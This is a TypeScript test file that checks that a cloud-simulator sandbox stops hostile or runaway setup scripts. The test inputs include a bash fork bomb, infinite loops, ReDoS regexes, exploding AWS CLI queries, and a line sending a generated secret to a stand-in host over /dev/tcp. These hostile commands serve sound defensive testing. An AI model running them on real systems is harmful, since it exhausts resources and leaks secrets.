import { setImmediate as immediate } from 'node:timers/promises'
import { describe, expect, it } from 'vitest'
import { contract } from '../../../../simulator/api/contract.ts'
import { Lab } from '../../../../simulator/lab.ts'
import { SetupFailed } from '../../../../simulator/packs/setup.ts'
import { scenarioNamed } from '../authoring/read-pack.ts'

// Scripts of strangers, which the program runs when it opens their scenario. Each ends by itself, and says why.

const scenario = scenarioNamed('foundations', 'a-private-door-to-sqs')

const begin = (setup: string) =>
  Lab.open({
    contract,
    turn: () => immediate(),
    seed: 'x',
    scenario: { ...scenario, setup: `set -e\n${setup}` },
  })

const doubled = (step: string, times: number) => Array.from({ length: times }, () => step).join('|')

describe('a stranger’s setup', () => {
  it.each<[string, string, RegExp]>([
    ['that loops', 'while :; do :; done', /stopped after 20,000 steps/],
    [
      'that loops around commands',
      'for ((;;)); do aws ec2 describe-vpcs > /dev/null; done',
      /stopped after 2,000 commands/,
    ],
    ['that counts', 'i=0; while ((i < 1000000000)); do ((i += 1)); done', /20,000 steps/],
    ['that sleeps again and again', 'while sleep 86400; do :; done', /stopped after/],
    ['that forks', ':(){ :|:& };:', /stopped: functions called each other/],
    ['that calls itself', 'f() { f; }; f', /stopped: functions called each other/],
    [
      'that prints forever',
      'while :; do printf "%01000d" 0; done',
      /stopped after (1 MiB of output|20,000 steps)/,
    ],
    ['that prints much at once', "printf '%1000000000s' x", /limit exceeded/],
    ['that makes a long text', 'a=xxxxxxxxxx; while :; do a=$a$a; done', /length limit exceeded/],
    ['that counts in one command', 'seq 1 1000000000', /limit exceeded/],
    ['that loops in awk', "awk 'BEGIN { while (1); }'", /exceeded/],
    ['that loops in sed', "echo a | sed ':a;ba'", /exceeded/],
    ['that counts in jq', "jq -n '[range(1e12)]'", /limit exceeded/],
    [
      'that doubles an answer with --query',
      `aws ec2 describe-vpcs --query '${doubled('[@,@]', 40)}'`,
      /more than 200,000 values: stopped/,
    ],
    [
      'that doubles a list with --query',
      `aws ec2 describe-vpcs --query 'Vpcs|${doubled('[@,@][]', 40)}|length(@)'`,
      /more than 200,000 values: stopped/,
    ],
    [
      'that doubles by way of maps with --query',
      `aws ec2 describe-vpcs --query '${doubled('{a:@,b:@}|values(@)', 40)}|to_string(@)'`,
      /more than 200,000 values: stopped/,
    ],
    [
      'that lets a service match a pattern forever',
      "aws ssm put-parameter --name x --type String --value aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa! --allowed-pattern '(a+)+'",
      /ParameterPatternMismatchException/,
    ],
    [
      'that gives a service a pattern that refers back',
      "aws ssm put-parameter --name x --type String --value aa --allowed-pattern '(a)\\1'",
      /InvalidAllowedPatternException/,
    ],
    [
      'that filters with many wildcards',
      `aws ec2 create-tags --resources $(aws ec2 describe-vpcs --query 'Vpcs[0].VpcId' --output text) --tags Key=Name,Value=${'a'.repeat(250)}
       aws ec2 describe-vpcs --filters 'Name=tag:Name,Values=${'*a'.repeat(90)}*b'
       false`,
      /status 1/,
    ],
    [
      'that waits for what never comes',
      'aws ec2 wait vpc-available --vpc-ids vpc-11111111',
      /Waiter VpcAvailable failed/,
    ],
    [
      'that asks for a secret',
      'aws secretsmanager get-random-password > /dev/tcp/198.51.100.7/80; false',
      /status/,
    ],
  ])('%s is stopped', async (_, setup, why) => {
    const failed = await begin(setup).catch((error: unknown) => error)
    expect(failed).toBeInstanceOf(SetupFailed)
    expect((failed as Error).message).toMatch(why)
  })

  it.each([
    ['that sleeps for a thousand years', 'sleep 31536000000'],
    ['that waits for input', 'read x || cat'],
    ['that matches forever in bash', `[[ ${'a'.repeat(40)}! =~ ^(a+)+$ ]] || true`],
    ['that matches forever in grep', `echo ${'a'.repeat(40)}! | grep -E '^(a+)+$' || true`],
    ['that matches forever in sed', `echo ${'a'.repeat(40)}! | sed -E 's/^(a+)+$/x/'`],
    ['that calls an address outside', 'curl -s -m 5 http://198.51.100.7/ || true'],
  ])('%s is through with it soon', async (_, setup) => {
    expect(await begin(setup)).toBeInstanceOf(Lab)
  })
})
